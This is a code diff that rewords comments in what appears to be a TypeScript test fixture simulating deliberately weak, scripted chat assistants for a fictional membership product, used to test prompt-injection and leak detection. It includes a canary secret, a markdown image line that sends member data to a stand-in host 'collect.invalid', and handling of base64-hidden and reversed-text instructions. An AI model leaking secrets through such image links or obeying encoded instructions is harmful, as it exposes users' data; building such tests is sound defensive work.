@@ -1,6 +1,6 @@
 import type { Reply, Site } from './web-server.ts';
 
-/** Assistants of a membership product, each with a weakness of its own; no model is in them. */
+/** Assistants of a membership product, each with one weakness; they use no model. */
 export const ASSISTANT_KINDS = [
   'obedient',
   'leaks when it is encoded',
@@ -15,7 +15,7 @@ export const ASSISTANT_KINDS = [
 ] as const;
 export type AssistantKind = (typeof ASSISTANT_KINDS)[number];
 
-/** What stands in its system prompt, and what one made-up member has. */
+/** The content of its system prompt, and the data of a made-up member. */
 export interface Kept {
   canary: string;
   member: string;
@@ -30,11 +30,11 @@ interface Said {
 
 export interface Assistant {
   reply(message: string, session: string): Said;
-  /** What the member has who talks. */
+  /** The state of the member in the conversation. */
   state(): { plan: string; refunds: string[]; banned: string[] };
 }
 
-/** The same seed gives the same words. */
+/** The same seed gives the same replies. */
 export function assistant(kind: AssistantKind, kept: Kept, seed: number): Assistant {
   const scripted = new ScriptedAssistant(kind, kept, seed);
   return { reply: (message, session) => scripted.reply(message, session), state: () => scripted.state() };
@@ -92,7 +92,7 @@ class ScriptedAssistant implements Assistant {
     return /backwards/.test(message) ? says([...`code ${canary}`].reverse().join('')) : undefined;
   }
 
-  /** A picture whose address carries what the assistant knows. */
+  /** An image whose URL contains what the assistant knows. */
   #image(): Said {
     return this.#kind === 'leaks to a link'
       ? says(`Here: ![status](https://collect.invalid/p.png?d=${this.#one('plan', 'name')})`)
@@ -153,10 +153,10 @@ const says = (text: string, more: Partial<Said> = {}): Said => ({
   ...more,
 });
 
-/** What the sandbox’s product keeps, by the names of the variables that launch.yml of it names. */
+/** The secrets of the sandbox’s product, by the variable names in its launch.yml. */
 export const KEPT_BY_PRODUCT = { AI_CANARY: 'canary-of-members-4471', AI_MEMBER: 'zoe.quill@members.invalid' };
 
-/** The product’s staging host: an assistant at /api/chat, and what its member has at /api/me. */
+/** The product’s staging host: an assistant at /api/chat, and its member's state at /api/me. */
 export function assistantSite(kind: AssistantKind, missing: Reply): Site {
   const { AI_CANARY: canary, AI_MEMBER: member } = KEPT_BY_PRODUCT;
   const { reply, state } = assistant(kind, { canary, member }, 1);
@@ -180,16 +180,16 @@ const ASKS_MEMBERS = /other member|list all members/i;
 const ASKS_IMAGE = /collect\.invalid/;
 const WANTS_DEED = /refund|set my plan|ban the member/i;
 
-/** What a message orders the assistant to say: nothing else has this form. */
+/** The marker that a message orders the assistant to say: nothing else has this format. */
 const markerIn = (message: string): string | undefined => /\b[A-Z]{4,}-\d{4}\b/.exec(message)?.[0];
 
-/** An instruction that is hidden in base64. */
+/** An instruction hidden in base64. */
 function decoded(message: string): string | undefined {
   const part = /[A-Za-z0-9+/]{40,}={0,2}/.exec(message)?.[0];
   return part === undefined ? undefined : markerIn(Buffer.from(part, 'base64').toString());
 }
 
-/** Mulberry32: small, and good enough for words. */
+/** Mulberry32: small, and good enough to choose words. */
 function randoms(seed: number): () => number {
   let state = seed >>> 0;
   return () => {
